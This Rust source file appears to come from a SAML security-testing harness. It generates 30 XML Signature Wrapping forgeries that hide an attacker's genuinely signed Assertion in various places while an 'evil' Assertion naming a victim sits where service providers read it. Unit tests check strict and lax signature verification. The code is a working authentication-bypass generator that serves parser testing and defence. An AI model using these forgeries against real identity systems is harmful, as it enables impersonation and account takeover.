//! The systematic wrapping matrix: every place the attacker's genuinely signed Assertion
//! (the *original*) can hide, times every fate of its signature, while an evil Assertion
//! (fresh ID, naming the victim) sits where SPs read it, as the Response's Assertion child.
//!
//! The matrix works on a signed Assertion (the usual IdP default and what the placements
//! inside an Assertion need); wrapping a signed Response is XSW1/XSW2.

use super::kit::{
    after_issuer_and_signature, assertion_index, attacker_genuine, child_index, evil_copy,
    find_child_mut, forged, insert_after_issuer, remove_child, take_signature,
};
use super::{AttackError, Forged, Scenario};
use crate::saml::dsig::{DSIG_NS, SAML_ASSERTION_NS};
use crate::saml::idp::SAMLP_NS;
use crate::saml::response::{SignMode, new_id};
use crate::saml::xml::{Document, Element, Node};

/// Where the original goes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Placement {
    /// A sibling of the evil Assertion, before it.
    SiblingBefore,
    /// A sibling of the evil Assertion, after it.
    SiblingAfter,
    /// In a `samlp:Extensions` of the Response.
    InExtensions,
    /// In a `saml:Advice` of the evil Assertion.
    InAdvice,
    /// Inside the evil Assertion's `saml:Issuer` (after its text).
    InIssuer,
    /// Inside the evil Assertion's `saml:Subject`, last.
    InSubject,
    /// In a `ds:Object` of the evil Assertion's `ds:Signature` (a bare Signature holding
    /// only the Object when the evil Assertion has no signature of its own).
    InSignatureObject,
    /// In a nested `samlp:Response` appended to the Response.
    InNestedResponse,
    /// As a second top-level element after the Response (not well-formed).
    SecondRoot,
    /// As a second document (XML declaration and all) after the Response (not well-formed).
    TrailingContent,
}

impl Placement {
    pub const ALL: [Placement; 10] = [
        Placement::SiblingBefore,
        Placement::SiblingAfter,
        Placement::InExtensions,
        Placement::InAdvice,
        Placement::InIssuer,
        Placement::InSubject,
        Placement::InSignatureObject,
        Placement::InNestedResponse,
        Placement::SecondRoot,
        Placement::TrailingContent,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Placement::SiblingBefore => "sibling-before",
            Placement::SiblingAfter => "sibling-after",
            Placement::InExtensions => "in-extensions",
            Placement::InAdvice => "in-advice",
            Placement::InIssuer => "in-issuer",
            Placement::InSubject => "in-subject",
            Placement::InSignatureObject => "in-signature-object",
            Placement::InNestedResponse => "in-nested-response",
            Placement::SecondRoot => "second-root",
            Placement::TrailingContent => "trailing-content",
        }
    }

    fn describe(self) -> &'static str {
        match self {
            Placement::SiblingBefore => "as a sibling before the evil Assertion",
            Placement::SiblingAfter => "as a sibling after the evil Assertion",
            Placement::InExtensions => "in a samlp:Extensions of the Response",
            Placement::InAdvice => "in a saml:Advice of the evil Assertion",
            Placement::InIssuer => "inside the evil Assertion's saml:Issuer",
            Placement::InSubject => "inside the evil Assertion's saml:Subject",
            Placement::InSignatureObject => "in a ds:Object of the evil Assertion's ds:Signature",
            Placement::InNestedResponse => "in a nested samlp:Response appended to the Response",
            Placement::SecondRoot => "as a second root element after the Response",
            Placement::TrailingContent => {
                "as a second document (with its XML declaration) after the Response"
            }
        }
    }

    /// False for the placements that make the message ill-formed on purpose.
    pub fn well_formed(self) -> bool {
        !matches!(self, Placement::SecondRoot | Placement::TrailingContent)
    }
}

/// What happens to the original's `ds:Signature`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SignatureFate {
    /// Stays in the original, valid where it sits; the evil Assertion has none.
    LeftInPlace,
    /// Moved onto the evil Assertion (its Reference still names the original).
    Moved,
    /// On both: valid in the original, a copy on the evil Assertion.
    Copied,
}

impl SignatureFate {
    pub const ALL: [SignatureFate; 3] = [
        SignatureFate::LeftInPlace,
        SignatureFate::Moved,
        SignatureFate::Copied,
    ];

    pub fn name(self) -> &'static str {
        match self {
            SignatureFate::LeftInPlace => "left-in-place",
            SignatureFate::Moved => "moved",
            SignatureFate::Copied => "copied",
        }
    }

    fn describe(self) -> &'static str {
        match self {
            SignatureFate::LeftInPlace => {
                "its signature left in place, the evil Assertion unsigned"
            }
            SignatureFate::Moved => "its signature moved onto the evil Assertion",
            SignatureFate::Copied => "its signature kept and copied onto the evil Assertion",
        }
    }
}

/// One cell of the matrix.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct MatrixVariant {
    pub placement: Placement,
    pub fate: SignatureFate,
}

impl MatrixVariant {
    /// Every cell, placement-major.
    pub fn all() -> Vec<MatrixVariant> {
        Placement::ALL
            .into_iter()
            .flat_map(|placement| {
                SignatureFate::ALL
                    .into_iter()
                    .map(move |fate| MatrixVariant { placement, fate })
            })
            .collect()
    }

    /// `placement/fate`, e.g. `sibling-before/moved` (part of test ids: stable, no spaces).
    pub fn name(&self) -> String {
        format!("{}/{}", self.placement.name(), self.fate.name())
    }

    pub fn from_name(name: &str) -> Option<MatrixVariant> {
        let (p, f) = name.split_once('/')?;
        Some(MatrixVariant {
            placement: Placement::ALL.into_iter().find(|x| x.name() == p)?,
            fate: SignatureFate::ALL.into_iter().find(|x| x.name() == f)?,
        })
    }
}

pub(super) fn forge(v: MatrixVariant, s: &Scenario<'_>) -> Result<Forged, AttackError> {
    let built = build(v, s)?;
    Ok(finish(v, s, &built))
}

/// The message for `built`: the Response, then (ill-formed placements) the original.
fn finish(v: MatrixVariant, s: &Scenario<'_>, built: &Built) -> Forged {
    let mut xml = built.doc.to_xml();
    if let Some(original) = &built.after_root {
        if v.placement == Placement::TrailingContent {
            xml.push_str("\n<?xml version=\"1.0\" encoding=\"UTF-8\"?>");
        }
        xml.push('\n');
        xml.push_str(&original.to_xml());
    }
    forged(
        xml,
        s,
        Some(s.attacker_identity.clone()),
        format!(
            "xsw-matrix/{}: evil Assertion (new ID) naming the victim as the Response's Assertion; the attacker's signed original {}, {}",
            v.name(),
            v.placement.describe(),
            v.fate.describe()
        ),
    )
}

/// The pieces of one forgery: the Response, and the original when it goes after it.
struct Built {
    doc: Document,
    /// With every namespace it uses declared on itself (it has no ancestors).
    after_root: Option<Element>,
}

fn build(v: MatrixVariant, s: &Scenario<'_>) -> Result<Built, AttackError> {
    let mut doc = attacker_genuine(s, SignMode::Assertion)?;
    let i = assertion_index(&doc.root)?;
    let mut original = remove_child(&mut doc.root, i)?;
    let mut evil = evil_copy(&original, s, true);
    match v.fate {
        SignatureFate::LeftInPlace => {}
        SignatureFate::Moved => {
            let sig = take_signature(&mut original).ok_or_else(unsigned)?;
            insert_after_issuer(&mut evil, sig);
        }
        SignatureFate::Copied => {
            let sig = original
                .find_child(DSIG_NS, "Signature")
                .cloned()
                .ok_or_else(unsigned)?;
            insert_after_issuer(&mut evil, sig);
        }
    }
    // Placements inside the evil Assertion: done before it goes into the Response.
    let original = match v.placement {
        Placement::InAdvice => {
            // Advice follows Conditions (SAML core §2.3.3).
            let at = child_index(&evil, SAML_ASSERTION_NS, "Conditions")
                .map(|c| c + 1)
                .unwrap_or(evil.children.len());
            let advice = saml("Advice").with_child(original);
            evil.insert_child(at, Node::Element(advice));
            None
        }
        Placement::InIssuer => {
            find_child_mut(&mut evil, SAML_ASSERTION_NS, "Issuer")?.append_child(original);
            None
        }
        Placement::InSubject => {
            find_child_mut(&mut evil, SAML_ASSERTION_NS, "Subject")?.append_child(original);
            None
        }
        Placement::InSignatureObject => {
            if child_index(&evil, DSIG_NS, "Signature").is_none() {
                insert_after_issuer(&mut evil, Element::new_ns("ds", DSIG_NS, "Signature"));
            }
            let object = Element::new_ns("ds", DSIG_NS, "Object").with_child(original);
            find_child_mut(&mut evil, DSIG_NS, "Signature")?.append_child(object);
            None
        }
        _ => Some(original),
    };
    doc.root.insert_child(i, Node::Element(evil));
    let mut after_root = None;
    if let Some(original) = original {
        match v.placement {
            Placement::SiblingBefore => doc.root.insert_child(i, Node::Element(original)),
            Placement::SiblingAfter => doc.root.insert_child(i + 1, Node::Element(original)),
            Placement::InExtensions => {
                let at = after_issuer_and_signature(&doc.root);
                let ext = Element::new_ns("samlp", SAMLP_NS, "Extensions").with_child(original);
                doc.root.insert_child(at, Node::Element(ext));
            }
            Placement::InNestedResponse => {
                let nested = nested_response(&doc.root, original);
                doc.root.append_child(nested);
            }
            _ => after_root = Some(Document::new(original)?.root),
        }
    }
    doc.fixup_namespaces()?;
    Ok(Built { doc, after_root })
}

fn unsigned() -> AttackError {
    super::kit::inconsistent("the genuine Assertion is not signed")
}

fn saml(local: &str) -> Element {
    Element::new_ns("saml", SAML_ASSERTION_NS, local)
}

/// A Response (fresh ID, the outer one's header, Issuer and Status) around `original`.
fn nested_response(outer: &Element, original: Element) -> Element {
    let mut nested = Element::new_ns("samlp", SAMLP_NS, "Response").with_attr("ID", &new_id());
    for name in ["Version", "IssueInstant", "Destination", "InResponseTo"] {
        if let Some(v) = outer.attr(name) {
            nested.set_attr(name, v);
        }
    }
    for local in [(SAML_ASSERTION_NS, "Issuer"), (SAMLP_NS, "Status")] {
        if let Some(e) = outer.find_child(local.0, local.1) {
            nested.append_child(e.clone());
        }
    }
    nested.with_child(original)
}

#[cfg(test)]
mod tests {
    use super::super::kit::testing::*;
    use super::super::{Attack, kit};
    use super::*;
    use crate::saml::dsig::DsigError;
    use crate::saml::xml::NodePath;

    #[test]
    fn names_round_trip_and_are_unique() {
        let all = MatrixVariant::all();
        assert_eq!(all.len(), 30);
        let mut names: Vec<String> = all.iter().map(MatrixVariant::name).collect();
        for (v, n) in all.iter().zip(&names) {
            assert_eq!(MatrixVariant::from_name(n), Some(*v));
            assert!(
                n.chars()
                    .all(|c| c.is_ascii_lowercase() || c == '-' || c == '/')
            );
            let attack = Attack::Matrix(*v);
            assert_eq!(Attack::from_name(&attack.name()), Some(attack));
        }
        assert_eq!(names[0], "sibling-before/left-in-place");
        assert!(names.contains(&"sibling-before/moved".to_string()));
        names.sort();
        names.dedup();
        assert_eq!(names.len(), 30);
        for bad in [
            "",
            "sibling-before",
            "sibling-before/",
            "x/moved",
            "in-advice/moved/x",
        ] {
            assert_eq!(MatrixVariant::from_name(bad), None, "{bad}");
        }
    }

    /// The forged message as one tree: the document itself, or (for the ill-formed
    /// placements) a wrapper around its two top-level elements, so the signatures can be
    /// checked the way a lenient parser would see them.
    fn combined(v: MatrixVariant, f: &Forged, built: Built) -> Document {
        let Built { doc, after_root } = built;
        if v.placement.well_formed() {
            assert!(after_root.is_none());
            return parse(&f.xml);
        }
        assert!(Document::parse(&f.xml).is_err(), "{}", v.name());
        let original = after_root.expect("original after the root");
        let first = doc.to_xml();
        let rest = f
            .xml
            .strip_prefix(first.as_str())
            .expect("the Response first");
        let rest = match v.placement {
            Placement::TrailingContent => rest
                .strip_prefix("\n<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n")
                .expect("a second XML declaration"),
            _ => rest.strip_prefix('\n').expect("a newline"),
        };
        assert_eq!(parse(rest).root, original);
        Document::new(
            Element::new("wrapper")
                .with_child(doc.root)
                .with_child(original),
        )
        .unwrap()
    }

    fn direct_signature(doc: &Document, path: &NodePath) -> Option<NodePath> {
        let el = doc.get(path)?;
        let i = kit::child_index(el, DSIG_NS, "Signature")?;
        let sig = el.children.get(i)?.as_element()?;
        // The bare container of in-signature-object/left-in-place is no signature.
        sig.find_child(DSIG_NS, "SignedInfo")?;
        Some(path.child(i))
    }

    #[test]
    fn every_variant_keeps_the_original_verifiable_and_the_evil_consumed() {
        let s = scenario(SignMode::Assertion);
        let cert = &s.idp.cert;
        for v in MatrixVariant::all() {
            let name = v.name();
            let built = build(v, &s).unwrap();
            let f = finish(v, &s, &built);
            assert_eq!(f.claimed, VICTIM);
            assert_eq!(f.genuine.as_deref(), Some(ATTACKER));
            assert!(f.description.contains(&name) && !f.description.contains('\n'));
            let doc = combined(v, &f, built);
            assert!(doc.duplicate_ids().is_empty(), "{name}");

            let all = assertions(&doc);
            assert_eq!(all.len(), 2, "{name}");
            let (evil, original): (Vec<_>, Vec<_>) =
                all.into_iter().partition(|p| name_id(&doc, p) == VICTIM);
            let (evil, original) = (&evil[0], &original[0]);
            assert_eq!(name_id(&doc, original), ATTACKER);
            // The evil Assertion is a child of the (first) Response.
            let response = evil.parent().unwrap();
            assert!(
                doc.get(&response).unwrap().is(SAMLP_NS, "Response"),
                "{name}"
            );
            assert!(response.0.len() <= 1, "{name}");

            let original_sig = direct_signature(&doc, original);
            let evil_sig = direct_signature(&doc, evil);
            match v.fate {
                SignatureFate::LeftInPlace => assert!(evil_sig.is_none(), "{name}"),
                SignatureFate::Moved => assert!(original_sig.is_none(), "{name}"),
                SignatureFate::Copied => {}
            }
            if let Some(sig) = original_sig {
                strict(&doc, &sig, cert).unwrap_or_else(|e| panic!("{name}: {e}"));
            }
            if let Some(sig) = evil_sig {
                assert!(
                    matches!(
                        strict(&doc, &sig, cert),
                        Err(DsigError::ReferenceNotParent { .. })
                    ),
                    "{name}"
                );
                assert_eq!(
                    lax(&doc, &sig, cert, Resolve::First).as_ref(),
                    Ok(original),
                    "{name}"
                );
            }
        }
    }

    #[test]
    fn ill_formed_variants_append_after_the_root() {
        let s = scenario(SignMode::Assertion);
        let v = MatrixVariant {
            placement: Placement::TrailingContent,
            fate: SignatureFate::LeftInPlace,
        };
        let f = forge(v, &s).unwrap();
        assert_eq!(f.xml.matches("<?xml").count(), 2);
        assert!(f.xml.trim_end().ends_with("</saml:Assertion>"));
    }
}
